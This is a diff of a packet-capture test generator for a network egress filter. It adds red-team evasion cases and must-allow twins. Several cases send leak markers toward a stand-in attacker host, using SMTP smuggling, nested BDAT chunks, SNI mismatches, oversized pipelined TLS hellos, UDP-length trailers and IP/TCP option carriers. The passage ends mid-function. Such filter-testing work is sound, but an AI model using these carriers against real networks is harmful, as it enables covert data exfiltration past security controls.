@@ -1741,6 +1741,20 @@ def case_rst_then_data(n):
 
 
 @case
+def case_rst_srv_then_data(n):
+    """An allowed session, the server's RST (its idle timeout), then the client's
+    plaintext without a new handshake: the server, reset, discards it, and it must not
+    reach anything on the way either. The flow may keep its verdict (the client's
+    bytes in flight cross an honest server RST: srv_rst_race_ok); none of them passes."""
+    cap = Capture()
+    t = tls_established(cap, S1, 42149, E2M, 249, n)
+    t.raw(False, "RA")
+    t.data(True, b"GET / HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n")
+    t.data(True, b"SSH-2.0-OpenSSH_9.2\r\n" + leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
 def case_rst_badsum_then_data(n):
     """An allowed session, a RST with a wrong checksum (the server keeps the
     connection), then plaintext."""
@@ -3550,6 +3564,1527 @@ def case_smtp_bdat_overflow(n):
     t.data(True, ssh_binary(n + "2", leak(n)))
     t.close()
     return cap, {"leak": [leak(n)]}
+
+
+# --- red team round 22 (strict zone)
+
+# ------------------------------------------------ red team round 24 (helper): cases to paste before `def main`
+# Ports 51000-51099.
+
+
+def smtp_chunking_start(t):
+    """Greeting and an EHLO reply that announces CHUNKING (Postfix's default), then
+    MAIL and RCPT."""
+    t.data(False, b"220 mail.customs.example ESMTP Postfix (Debian/GNU)\r\n")
+    t.data(True, b"EHLO ws-10.e2m.customs.example\r\n")
+    t.data(False, b"250-mail.customs.example\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n"
+                  b"250-8BITMIME\r\n250-CHUNKING\r\n250 SMTPUTF8\r\n")
+    t.data(True, b"MAIL FROM:<declarant@e2m.customs.example>\r\n")
+    t.data(False, b"250 2.1.0 Ok\r\n")
+    t.data(True, b"RCPT TO:<office@customs.example>\r\n")
+    t.data(False, b"250 2.1.5 Ok\r\n")
+
+
+def smtp_bdat_nested(n, cport, isn, verb_line):
+    """verb_line opens a chunk of 40 bytes for the relay (Postfix's smtpd_token and
+    Exim's sscanf("%u %n") both split BDAT's arguments on any run of blanks); the
+    chunk's first line is 'BDAT 100000'. Then an SSH banner and binary packets."""
+    cap = Capture()
+    t = ETcp(cap, S1, cport, MAIL, 25, isn=isn, rtt_us=4000)
+    t.handshake()
+    smtp_chunking_start(t)
+    chunk = b"BDAT 100000\r\n"
+    chunk += b"Subject: x\r\n\r\nhello world\r\n"
+    chunk += b"-" * (40 - len(chunk))
+    assert len(chunk) == 40
+    t.data(True, verb_line + chunk)
+    t.data(False, b"250 2.0.0 Ok: queued as 4AB14\r\n")
+    t.data(True, SSH_BANNER)
+    t.data(False, b"502 5.5.2 Error: command not recognized\r\n")
+    t.data(True, ssh_binary(n, leak(n)))
+    t.data(True, ssh_binary(n + "2", leak(n)))
+    t.data(False, b"500 5.5.2 Error: bad syntax\r\n")
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_smtp_bdat_2sp(n):
+    """BDAT with two blanks before LAST ('BDAT 40  LAST'): conform.c's smtp_verb wants
+    exactly one space and reads the line as a plain command, so it reads the 40-byte
+    chunk as command lines. Postfix (smtpd_token) and Exim (sscanf "%u %n") take it as a
+    40-byte last chunk. The chunk's text starts with 'BDAT 100000': aduana now skips
+    100000 bytes as a chunk, while the relay, its message queued, reads the SSH banner
+    and packets that follow as commands. Must drop at the SSH bytes (or at the
+    chunk)."""
+    return smtp_bdat_nested(n, 51001, 51001, b"BDAT 40  LAST\r\n")
+
+
+@case
+def case_smtp_bdat_tab(n):
+    """The same with a tab between the size and LAST ('BDAT 40\\tLAST'): a blank to
+    Postfix and Exim, not to aduana."""
+    return smtp_bdat_nested(n, 51002, 51002, b"BDAT 40\tLAST\r\n")
+
+
+@case
+def case_smtp_bdat_nested_ok(n):
+    """Must-allow twin: a genuine 'BDAT 40 LAST' whose chunk (a message quoting an SMTP
+    transcript) begins with the text 'BDAT 100000'; then QUIT. Chunk bytes are never
+    commands, so a fix that reads blanks as Postfix does must still skip the chunk."""
+    cap = Capture()
+    t = ETcp(cap, S1, 51003, MAIL, 25, isn=51003, rtt_us=4000)
+    t.handshake()
+    smtp_chunking_start(t)
+    chunk = b"BDAT 100000\r\n" + passm(n) + b"\r\n"
+    chunk += b"-" * (60 - len(chunk))
+    t.data(True, b"BDAT 60 LAST\r\n" + chunk)
+    t.data(False, b"250 2.0.0 Ok: queued as 4AB15\r\n")
+    t.data(True, b"QUIT\r\n")
+    t.data(False, b"221 2.0.0 Bye\r\n")
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+# --- probes: TLS to the relay's TLS ports, other protocols to endpoints, UDP trailers
+
+def tls_to(n, cport, isn, dst, dport, name, marker):
+    cap = Capture()
+    tls_flow(cap, S1, cport, dst, isn, n, send_whole(hello(n, sni=name)), marker, sport=dport)
+    return cap
+
+
+@case
+def case_smtps_evil_sni(n):
+    """TLS to the relay's SMTPS port (465) naming exfil.attacker.test: boc_mail declares
+    hosts (mail.customs.example), and a TLS flow's name must match them (DESIGN 4)."""
+    return tls_to(n, 51010, 51010, MAIL, 465, EVIL, leak(n)), {"leak": [leak(n)]}
+
+
+@case
+def case_imaps_evil_sni(n):
+    """The same to IMAPS (993)."""
+    return tls_to(n, 51011, 51011, MAIL, 993, EVIL, leak(n)), {"leak": [leak(n)]}
+
+
+@case
+def case_smtps_ok(n):
+    """Must-allow: SMTPS (465) naming mail.customs.example."""
+    return tls_to(n, 51012, 51012, MAIL, 465, "mail.customs.example", passm(n)), {"pass": [passm(n)]}
+
+
+@case
+def case_dns_udp_trailer(n):
+    """A genuine DNS query to the resolver whose UDP length covers the query only; the
+    IP datagram carries 1000 more bytes after it. Every router forwards the whole IP
+    datagram (zapret's udplen games); only the resolver's stack trims to the UDP length.
+    parse_l4 stops the payload at the UDP length and dns_wire_check sees a whole query:
+    the trailing bytes leave the site. Must not pass."""
+    cap = Capture()
+    for i in range(3):
+        q = bytes(DNS(id=0x5100 + i, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
+        trailer = leak(n) + prand("%s%d" % (n, i), 1000)
+        cap.emit(l2(S1, RESOLVER) / IP(src=S1, dst=RESOLVER)
+                 / UDP(sport=51017, dport=53, len=8 + len(q)) / Raw(q + trailer), 10000)
+        a = bytes(DNS(id=0x5100 + i, qr=1, rd=1, ra=1, qd=DNSQR(qname=E2M_NAME, qtype="A"),
+                      an=DNSRR(rrname=E2M_NAME, type="A", ttl=300, rdata=E2M)))
+        udp(cap, RESOLVER, 53, S1, 51017, a, gap=2000)
+    return cap, {"leak": [leak(n)]}
+
+
+
+# --- a ClientHello that fills the first-bytes slot exactly, then a second one behind it
+
+def hello_exact(seed, sni, total, cut=16000):
+    """A ClientHello in two records (cut after `cut` body bytes) whose records total
+    exactly `total` stream bytes: a padding extension (21) takes up the rest."""
+    base = hs_client_hello(seed, sni=sni, extra=[ext(21, b"")])
+    hs = hs_client_hello(seed, sni=sni, extra=[ext(21, b"\x00" * (total - 10 - len(base)))])
+    assert len(hs) + 10 == total
+    return record(22, hs[:cut]) + record(22, hs[cut:])
+
+
+def hrr_pipe_big(n, cport, isn, server, name1, name2, mark, ccs=True):
+    """hrr_pipelined with a first hello of exactly 16384 bytes (the slot's size,
+    STREAM_MAX): judge_hello_tail looks for a pipelined handshake record only in the
+    slot, from the hello's end, and finds nothing there; conform_tls checks a client's
+    handshake record only after application data. The second hello passes before the
+    HRR that would arm stream_hello2."""
+    cap = Capture()
+    t = ETcp(cap, S1, cport, server, 443, isn=isn, rtt_us=20000)
+    t.handshake()
+    ch1 = hello_exact(n, name1, 16384)
+    for i in range(0, len(ch1), 1400):
+        t.send(True, ch1[i:i + 1400], gap=200)
+    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
+    pad = ext(21, mark + b"\x00" * 40)
+    t.send(True, (CCS if ccs else b"") + hello(n, sni=name2, sid=sid, extra=[pad]), gap=1000)
+    t.ack(False)
+    t.data(False, hrr_flight(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(mark, n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap
+
+
+@case
+def case_hrr_pipe_big_front(n):
+    """Shared front: hrr_pipe_front with a first hello (portal.customs.example) of
+    exactly 16384 bytes in two records (OpenSSL takes hellos up to 128 KiB). The second
+    hello (exfil.attacker.test), behind a ChangeCipherSpec, lies wholly past the slot:
+    nothing looks at it before the HRR; the HRR then finds the slot full and refuses,
+    too late. Must drop at the second hello."""
+    return hrr_pipe_big(n, 51020, 51020, FRONT, FRONT_NAME, EVIL, leak(n)), {"leak": [leak(n)]}
+
+
+@case
+def case_hrr_pipe_big_noccs(n):
+    """The same without the ChangeCipherSpec (it is optional, RFC 8446 D.4)."""
+    return hrr_pipe_big(n, 51021, 51021, FRONT, FRONT_NAME, EVIL, leak(n), ccs=False), {"leak": [leak(n)]}
+
+
+@case
+def case_big_hello_16k_ok(n):
+    """Must-allow twin: an e2m hello of exactly 16384 bytes in two records (the reader's
+    bound, which DESIGN 4.2 promises to read), a normal TLS 1.3 handshake after it."""
+    cap = Capture()
+    t = ETcp(cap, S1, 51022, E2M, 443, isn=51022, rtt_us=20000)
+    t.handshake()
+    ch1 = hello_exact(n, E2M_NAME, 16384)
+    for i in range(0, len(ch1), 1400):
+        t.send(True, ch1[i:i + 1400], gap=200)
+    t.ack(False)
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_smtp_smuggle_crdotcr(n):
+    """SMTP smuggling (Longin, SEC Consult 2023): the message content ends in
+    '<CR>.<CR>' (bare CRs), which Cisco Secure Email and other relays take as the end of
+    data; conform_smtp_client ends content only at a dot between LF or CR LF line
+    ends, so it stays in content (nothing checked) while such a relay reads the SSH
+    banner and packets that follow as commands. Must drop at the SSH bytes."""
+    cap = Capture()
+    t = ETcp(cap, S1, 51030, MAIL, 25, isn=51030, rtt_us=4000)
+    t.handshake()
+    smtp_start(t, False)
+    for c, s in ((b"MAIL FROM:<declarant@e2m.customs.example>\r\n", b"250 2.1.0 Ok\r\n"),
+                 (b"RCPT TO:<office@customs.example>\r\n", b"250 2.1.5 Ok\r\n"),
+                 (b"DATA\r\n", b"354 End data with <CR><LF>.<CR><LF>\r\n")):
+        t.data(True, c)
+        t.data(False, s)
+    t.data(True, b"Subject: x\r\n\r\nhello\r.\r")
+    t.data(False, b"250 2.0.0 Ok: queued as 4AB16\r\n")
+    t.data(True, SSH_BANNER)
+    t.data(True, ssh_binary(n, leak(n)))
+    t.data(True, ssh_binary(n + "2", leak(n)))
+    t.data(False, b"500 5.5.2 Error: bad syntax\r\n")
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_smtp_crdotcr_body(n):
+    """Red team round 22 offered this as the must-allow twin of smtp_smuggle_crdotcr:
+    an 8BITMIME message whose text holds '<CR>.<CR>' (bare-CR line ends, an old Mac
+    tool's), then its real end. Postfix keeps going; a relay that ends lines at a CR
+    ends the data there and reads the rest as commands. No reading holds for both, and
+    RFC 5321 2.3.8 allows no bare CR: refused (smtp_dot). Must drop at that line."""
+    cap = Capture()
+    t = ETcp(cap, S1, 51031, MAIL, 25, isn=51031, rtt_us=4000)
+    t.handshake()
+    smtp_start(t, False)
+    for c, s in ((b"MAIL FROM:<declarant@e2m.customs.example> BODY=8BITMIME\r\n", b"250 2.1.0 Ok\r\n"),
+                 (b"RCPT TO:<office@customs.example>\r\n", b"250 2.1.5 Ok\r\n"),
+                 (b"DATA\r\n", b"354 End data with <CR><LF>.<CR><LF>\r\n")):
+        t.data(True, c)
+        t.data(False, s)
+    t.data(True, b"Subject: table\r\n\r\ncol1\r.\rcol2\r\n" + leak(n) + b"\r\n.\r\n")
+    t.data(False, b"250 2.0.0 Ok: queued as 4AB17\r\n")
+    t.data(True, b"QUIT\r\n")
+    t.data(False, b"221 2.0.0 Bye\r\n")
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+# --- carriers outside the TLS framing on an allowed flow: header fields the receiver skips
+
+def carrier_flow(n, cport, isn, v6, send_rec, k=3):
+    """An allowed e2m session (IPv4 or IPv6); then k client records, each sent by
+    send_rec(t, rec, i) with its carrier; then the server's answer and close."""
+    cap = Capture()
+    t = tls_established(cap, S6 if v6 else S1, cport, E2M6 if v6 else E2M, isn, n)
+    for i in range(k):
+        rec = tls_appdata(n + "c%d" % i, 300)
+        send_rec(t, rec, i)
+        t.cseq += len(rec)
+        t.ack(False)
+    t.data(False, tls_appdata(n + "end", 200))
+    t.close()
+    return cap
+
+
+@case
+def case_carrier_dstopt6(n):
+    """IPv6: every record of an allowed e2m session rides behind a Destination Options
+    header whose option is of an unknown type with action bits 00 ('skip over this
+    option and continue', RFC 8200 4.2, type 0x1e) and 1000 bytes of data. The server's
+    stack skips it and takes the segment; routers forward it by destination. The
+    option's bytes are a carrier of anything to the endpoint, outside the TLS framing
+    the flow is held to (as icmp_err_tunnel_e2m's quoted bytes were). Must not pass."""
+    def send(t, rec, i):
+        opt = IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x1E, optdata=leak(n) + prand("%s%d%d" % (n, i, j), 230))
+                                         for j in range(4)])
+        pkt = (IPv6(src=t.c, dst=t.s) / opt / TCP(sport=t.cport, dport=t.sport, flags="PA", seq=t.cseq,
+                                                   ack=t.sseq, window=64240) / Raw(rec))
+        t.cap.emit(l2(t.c, t.s, t.vlans) / pkt, t.rtt // 2)
+    return carrier_flow(n, 51040, 51040, True, send), {"leak": [leak(n)]}
+
+
+@case
+def case_carrier_tcpopt(n):
+    """IPv4: every record of an allowed e2m session carries a TCP option of the
+    experimental kind 254 (RFC 6994) with 36 bytes: the marker. Linux ignores options
+    it does not know and takes the segment. Must not pass."""
+    def send(t, rec, i):
+        data = (leak(n) + prand("%s%d" % (n, i), 36))[:36]
+        t.raw(True, "PA", rec, options=[(254, data)])
+    return carrier_flow(n, 51041, 51041, False, send), {"leak": [leak(n)]}
+
+
+@case
+def case_carrier_ipopt(n):
+    """IPv4: every record of an allowed e2m session carries an IPv4 option of an
+    unassigned type (0x9e: copied, class 0, number 30) with 36 bytes: the marker. Hosts
+    and routers ignore an option they do not know (RFC 1122 3.2.1.8). Must not pass."""
+    from scapy.layers.inet import IPOption
+    def send(t, rec, i):
+        data = (leak(n) + prand("%s%d" % (n, i), 36))[:36]
+        t.raw(True, "PA", rec, ipkw={"options": [IPOption(bytes([0x9e, 38]) + data)]})
+    return carrier_flow(n, 51042, 51042, False, send), {"leak": [leak(n)]}
+
+
+@case
+def case_dns_udp_l2pad_ok(n):
+    """Must-allow twin of dns_udp_trailer: a resolver's priming query (./NS, RFC 8109)
+    from the host is 45 bytes of IPv4: its frame is padded to Ethernet's 60-byte minimum
+    after the IP datagram (the IP and UDP lengths both exact). A fix that refuses bytes
+    past the UDP length must not take link padding for them."""
+    from scapy.packet import Padding
+    cap = Capture()
+    q = bytes(DNS(id=0x5180, rd=0, qd=DNSQR(qname=".", qtype="NS")))
+    cap.emit(l2(S1, RESOLVER) / IP(src=S1, dst=RESOLVER) / UDP(sport=51018, dport=53) / Raw(q)
+             / Padding(b"\x00" * (60 - 14 - 20 - 8 - len(q))), 10000)
+    a = bytes(DNS(id=0x5180, qr=1, ra=1, qd=DNSQR(qname=".", qtype="NS"),
+                  an=DNSRR(rrname=".", type="NS", ttl=518400, rdata="a.root-servers.net")))
+    udp(cap, RESOLVER, 53, S1, 51018, a, gap=2000)
+    return cap, {"pass": [q, a]}
+
+
+@case
+def case_carrier_tcpopt_eol(n):
+    """carrier_tcpopt's bytes after an End of Option List (kind 0): a receiver stops
+    reading options there (Linux tcp_parse_options) and takes the segment; the 39 bytes
+    after it, up to the data offset, carry the marker. A fix that refuses unknown kinds
+    must also look past the end of the list."""
+    def send_raw(t, rec, i):
+        data = (leak(n) + prand("%s%d" % (n, i), 40))[:39]
+        # options in the header's 40 bytes: EOL, then the marker (scapy sums the whole segment)
+        seg = TCP(sport=t.cport, dport=t.sport, flags="PA", seq=t.cseq, ack=t.sseq, window=64240,
+                  dataofs=15) / Raw(b"\x00" + data + rec)
+        t.cap.emit(l2(t.c, t.s, t.vlans) / IP(src=t.c, dst=t.s) / seg, t.rtt // 2)
+    return carrier_flow(n, 51043, 51043, False, send_raw), {"leak": [leak(n)]}
+
+
+# --- red team round 22 (false blocks of honest traffic)
+
+# --- rt25: false-block hunt (honest behaviours of real stacks; every case must allow)
+# Paste before `def main` in tests/evasion/gen.py. Ports 51001..51099, ISNs 5100x.
+
+M32 = 0xFFFFFFFF
+
+
+class Rt25Tcp(ETcp):
+    """ETcp whose sequence and acknowledgement numbers wrap at 2^32 (the
+    helpers count them as Python ints), with per-direction IP fields (TTL,
+    TOS) and an optional timestamp clock per side that wraps too."""
+
+    def __init__(self, *a, ts=None, ipkw_c=None, ipkw_s=None, **kw):
+        super().__init__(*a, **kw)
+        self.tsc = ts  # None, or {True: client clock, False: server clock}
+        self.ipkw_c = ipkw_c or {}
+        self.ipkw_s = ipkw_s or {}
+
+    def tsopt(self, from_client, bump=True):
+        if self.tsc is None:
+            return []
+        mine = self.tsc[from_client] & M32
+        echo = (self.tsc[not from_client] - 1) & M32
+        if bump:
+            self.tsc[from_client] += 1
+        return [("NOP", None), ("NOP", None), ("Timestamp", (mine, echo))]
+
+    def raw(self, from_client, flags, payload=b"", seq=None, ack=None, ipkw=None, tcpkw=None,
+            options=None, frag=None, gap=None, window=64240):
+        if seq is None:
+            seq = self.cseq if from_client else self.sseq
+        if ack is None:
+            ack = self.sseq if from_client else self.cseq
+        kw = dict(self.ipkw_c if from_client else self.ipkw_s)
+        kw.update(ipkw or {})
+        if options is None and "S" not in flags:
+            options = self.tsopt(from_client)
+        return super().raw(from_client, flags, payload, seq=seq & M32, ack=ack & M32, ipkw=kw,
+                           tcpkw=tcpkw, options=options, frag=frag, gap=gap, window=window)
+
+    def frame(self, from_client, flags, payload=b"", seq=None, ack=None, options=None, gap=None):
+        # gen_replay's Tcp helpers (data, send, ack, close) go through frame()
+        self.raw(from_client, flags, payload, seq=seq, ack=ack, options=options, gap=gap)
+
+    def handshake(self, gap=None, syn_opts=None, synack_opts=None, syn_flags="S", synack_flags="SA"):
+        if syn_opts is None:
+            syn_opts = [("MSS", 1460), ("SAckOK", b"")]
+            if self.tsc is not None:
+                syn_opts += [("Timestamp", (self.tsc[True] & M32, 0))]
+            syn_opts += [("NOP", None), ("WScale", 7)]
+        if self.tsc is not None:
+            self.tsc[True] += 1
+        self.raw(True, syn_flags, options=syn_opts, gap=gap)
+        self.cseq += 1
+        if synack_opts is None:
+            synack_opts = [("MSS", 1460), ("SAckOK", b"")]
+            if self.tsc is not None:
+                synack_opts += [("Timestamp", (self.tsc[False] & M32, (self.tsc[True] - 1) & M32))]
+            synack_opts += [("NOP", None), ("WScale", 7)]
+        if self.tsc is not None:
+            self.tsc[False] += 1
+        self.raw(False, synack_flags, options=synack_opts)
+        self.sseq += 1
+        self.raw(True, "A")
+
+
+def rt25_session(cap, cport, cseq, sseq, seed, c=S1, s=E2M, sport=443, hello_bytes=None, **kw):
+    """An e2m TLS 1.3 session up to the first exchange of application data,
+    with the client's and the server's initial sequence numbers given."""
+    t = Rt25Tcp(cap, c, cport, s, sport, rtt_us=20000, **kw)
+    t.cseq, t.sseq = cseq, sseq
+    t.handshake()
+    t.data(True, hello(seed) if hello_bytes is None else hello_bytes)
+    t.data(False, server_hello_flight(seed))
+    t.data(True, CCS + tls_appdata(seed + "fin", 53))
+    t.data(True, tls_appdata(seed + "req", 180))
+    t.data(False, tls_appdata(seed + "resp", 700))
+    return t
+
+
+def rt25_bulk(t, from_client, data, mss=1448):
+    """data in full-size segments from one side, the other side ACKing every second one."""
+    base = t.cseq if from_client else t.sseq
+    k = 0
+    for i in range(0, len(data), mss):
+        seg = data[i:i + mss]
+        t.raw(from_client, "PA" if i + mss >= len(data) else "A", seg, seq=base + i, gap=300)
+        k += 1
+        if k % 2 == 0 or i + mss >= len(data):
+            if from_client:
+                t.raw(False, "A", ack=base + i + len(seg), gap=300)
+            else:
+                t.raw(True, "A", ack=base + i + len(seg), gap=300)
+    if from_client:
+        t.cseq = base + len(data)
+    else:
+        t.sseq = base + len(data)
+
+
+@case
+def case_seqwrap_ok(n):
+    """Both sequence spaces wrap past 2^32 during the session (RFC 9293: sequence
+    numbers are modulo 2^32). Every stack picks a random ISN (RFC 6528), so a
+    session that moves D bytes wraps with probability D/2^32 per direction: one
+    in ~4000 sessions of 1 MB, one in 40 of 100 MB. Client ISN 2^32-2000, server
+    ISN 2^32-3000: the ClientHello, the server's flight and later records cross
+    the wrap."""
+    cap = Capture()
+    t = rt25_session(cap, 52001, (1 << 32) - 2000, (1 << 32) - 3000, n)
+    up = marked_record(passm(n), n + "up", 3000) + tls_appdata(n + "up2", 2000)
+    rt25_bulk(t, True, up)
+    down = tls_appdata(n + "d1", 5000) + marked_record(passm(n) + b"dn", n + "d2", 4000)
+    rt25_bulk(t, False, down)
+    t.data(True, tls_appdata(n + "last", 90))
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"dn"]}
+
+
+@case
+def case_tswrap_ok(n):
+    """Both sides use TCP timestamps and both clocks wrap past 2^32 during the
+    session (RFC 7323 5.2: compared modulo 2^32). Linux gives each connection a
+    random timestamp offset (since 4.10), so the clock starts anywhere; at 1 kHz
+    it wraps every 49.7 days, i.e. a session of an hour wraps with probability
+    ~1/1200."""
+    cap = Capture()
+    ts = {True: (1 << 32) - 6, False: (1 << 32) - 9}
+    t = rt25_session(cap, 52002, 52002, 71002, n, ts=ts)
+    for k in range(4):
+        t.data(True, marked_record(passm(n) + b"%d" % k, n + "c%d" % k, 300))
+        t.data(False, tls_appdata(n + "s%d" % k, 600))
+    t.close()
+    return cap, {"pass": [passm(n) + b"%d" % k for k in range(4)]}
+
+
+@case
+def case_synproxy_ttl_ok(n):
+    """The server sits behind a SYN proxy (iptables SYNPROXY, F5 SYN check, a DDoS
+    scrubber): the proxy itself answers the SYN (its own TTL 64), then forwards the
+    real server's segments, which arrive one hop lower than the SYN-ACK did. The
+    responder's data thus always carries a lower TTL than its SYN-ACK."""
+    cap = Capture()
+    t = Rt25Tcp(cap, S1, 52003, E2M, 443, rtt_us=20000)
+    t.cseq, t.sseq = 52003, 81003
+    t.ipkw_s = {"ttl": 52}
+    t.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("NOP", None), ("WScale", 7)])
+    t.cseq += 1
+    t.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("NOP", None), ("WScale", 7)])
+    t.sseq += 1
+    t.raw(True, "A")
+    t.ipkw_s = {"ttl": 51}
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.data(False, marked_record(passm(n) + b"resp", n + "resp", 700))
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"resp"]}
+
+
+@case
+def case_route_ttl_ok(n):
+    """A long-lived e2m session during which the Internet route from the server
+    changes (BGP reconvergence, a link failure): its segments arrive one hop
+    lower from then on. Nothing else changes; the server keeps sending records."""
+    cap = Capture()
+    t = rt25_session(cap, 52004, 52004, 81004, n, ipkw_s={"ttl": 50})
+    t.data(True, tls_appdata(n + "a", 200))
+    t.data(False, tls_appdata(n + "b", 900))
+    cap.idle(30)
+    t.ipkw_s = {"ttl": 49}
+    t.data(True, marked_record(passm(n), n + "c", 200))
+    t.data(False, marked_record(passm(n) + b"srv", n + "d", 900))
+    t.data(True, tls_appdata(n + "e", 100))
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"srv"]}
+
+
+@case
+def case_rst_cross_ok(n):
+    """The client (Chrome, Windows curl, a Java pool evicting a connection) sends
+    its close_notify and closes the socket with SO_LINGER 0 or with unread data:
+    a RST right after. The server's response records and its close_notify, sent
+    before the RST reached it, cross it and arrive after it (the client's kernel
+    answers them with RSTs). Nothing new is read by anybody."""
+    cap = Capture()
+    t = rt25_session(cap, 52005, 52005, 81005, n)
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.data(True, record(21, prand(n + "cn", 19), 0x0303))
+    t.raw(True, "RA")
+    t.send(False, tls_appdata(n + "late", 500))
+    t.send(False, record(21, prand(n + "scn", 19), 0x0303))
+    t.raw(True, "R", seq=t.cseq)
+    t.raw(False, "FA")
+    t.raw(True, "R", seq=t.cseq)
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_fin_cross_ok(n):
+    """A common close: the client sends close_notify and FIN and closes its socket
+    (curl, Go's http.Transport). The server's last record (a NewSessionTicket or
+    the tail of a response), sent before the FIN reached it, arrives after the
+    FIN; the client's kernel, whose socket is gone, answers it with a RST; the
+    server's own close_notify and FIN come after that RST."""
+    cap = Capture()
+    t = rt25_session(cap, 52006, 52006, 81006, n)
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.raw(True, "PA", record(21, prand(n + "cn", 19), 0x0303))
+    t.cseq += 24
+    t.raw(True, "FA")
+    t.cseq += 1
+    t.send(False, tls_appdata(n + "ticket", 250))
+    t.raw(True, "R", seq=t.cseq, ack=0)
+    t.send(False, record(21, prand(n + "scn", 19), 0x0303))
+    t.raw(False, "FA")
+    t.raw(True, "R", seq=t.cseq, ack=0)
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_fin_data_ok(n):
+    """close_notify and FIN in one segment from each side (Linux sends the FIN
+    with the last bytes when the application writes and closes at once)."""
+    cap = Capture()
+    t = rt25_session(cap, 52007, 52007, 81007, n)
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.data(False, tls_appdata(n + "resp", 800))
+    cn = record(21, prand(n + "cn", 19), 0x0303)
+    t.raw(True, "FPA", cn)
+    t.cseq += len(cn) + 1
+    scn = record(21, prand(n + "scn", 19), 0x0303)
+    t.raw(False, "FPA", scn)
+    t.sseq += len(scn) + 1
+    t.raw(True, "A")
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_keepalive_linux_ok(n):
+    """An idle e2m connection held open by TCP keep-alive (Chrome sets 45 s on its
+    sockets, Java/Go pools 15-30 s): Linux's probe is a bare ACK at snd_nxt-1 with a
+    fresh timestamp, the server answers with an ACK; three rounds, then more records."""
+    cap = Capture()
+    t = rt25_session(cap, 52008, 52008, 81008, n, ts={True: 700000, False: 900000})
+    for k in range(3):
+        cap.idle(45)
+        t.tsc[True] += 45000
+        t.raw(True, "A", seq=t.cseq - 1)
+        t.tsc[False] += 45000
+        t.raw(False, "A")
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.data(False, marked_record(passm(n) + b"srv", n + "resp", 600))
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"srv"]}
+
+
+@case
+def case_keepalive_win_ok(n):
+    """The same with Windows' probe: one byte (0x00, not the byte sent there) at
+    snd_nxt-1, no timestamps (Windows' default), the server's ACK, then both sides'
+    records again. The server sends its own keep-alives too (nginx so_keepalive,
+    IIS): Linux's bare ACK at snd_nxt-1."""
+    cap = Capture()
+    t = rt25_session(cap, 52009, 52009, 81009, n)
+    for k in range(3):
+        cap.idle(45)
+        t.raw(True, "A", b"\x00", seq=t.cseq - 1)
+        t.raw(False, "A")
+        t.raw(False, "A", seq=t.sseq - 1, gap=5000000)
+        t.raw(True, "A")
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.data(False, marked_record(passm(n) + b"srv", n + "resp", 600))
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"srv"]}
+
+
+def rt25_chrome_hello(seed, sni=E2M_NAME, ech=True):
+    """A Chrome 131+ ClientHello: GREASE cipher, group, version and extensions,
+    X25519MLKEM768 (0x11ec, a 1216-byte share) and X25519 key shares, ALPS,
+    certificate compression, SCT, OCSP, GREASE ECH. About 1.8 KB: two segments."""
+    grease_c, grease_g, grease_e1, grease_e2, grease_v = 0x0A0A, 0x3A3A, 0x5A5A, 0x9A9A, 0x7A7A
+    ciphers = struct.pack("!16H", grease_c, 0x1301, 0x1302, 0x1303, 0xC02B, 0xC02F, 0xC02C, 0xC030,
+                          0xCCA9, 0xCCA8, 0xC013, 0xC014, 0x009C, 0x009D, 0x002F, 0x0035)
+    groups = struct.pack("!6H", 10, grease_g, 0x11EC, 29, 23, 24)
+    sigs = struct.pack("!8H", 0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601)
+    mlkem = prand(seed + "mlkem", 1216)
+    x25519 = prand(seed + "x", 32)
+    shares = (struct.pack("!HH", grease_g, 1) + b"\x00"
+              + struct.pack("!HH", 0x11EC, len(mlkem)) + mlkem
+              + struct.pack("!HH", 29, 32) + x25519)
+    alpn = b"\x02h2\x08http/1.1"
+    ech_body = (b"\x00" + struct.pack("!HH", 1, 1) + bytes([prand(seed + "cid", 1)[0]])
+                + struct.pack("!H", 32) + prand(seed + "enc", 32)
+                + struct.pack("!H", 208) + prand(seed + "echp", 208))
+    exts = [
+        ext(grease_e1, b""),
+        ext(0x001B, b"\x02\x00\x02"),                                  # compress_certificate: brotli
+        ext(0x0000, struct.pack("!H", len(sni) + 3) + b"\x00" + struct.pack("!H", len(sni)) + sni.encode()),
+        ext(0x0012, b""),                                              # signed_certificate_timestamp
+        ext(0x0023, b""),                                              # session_ticket
+        ext(0x002D, b"\x01\x01"),                                      # psk_key_exchange_modes
+        ext(0x000A, groups),
